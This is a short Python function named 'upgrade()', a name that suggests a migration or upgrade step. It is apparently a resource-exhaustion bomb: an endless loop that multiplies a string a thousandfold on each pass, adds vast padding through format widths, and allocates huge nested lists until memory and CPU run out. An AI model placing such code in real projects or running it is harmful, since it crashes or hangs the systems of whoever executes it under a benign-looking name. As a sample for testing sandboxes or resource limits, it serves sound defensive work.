def upgrade():
    s = "a"
    while True:
        s = s.replace("a", "aa" * 1000) + "%99999d" % 1 + f"{1:>999999}"
        t = [[s] * 1000000] * 100000
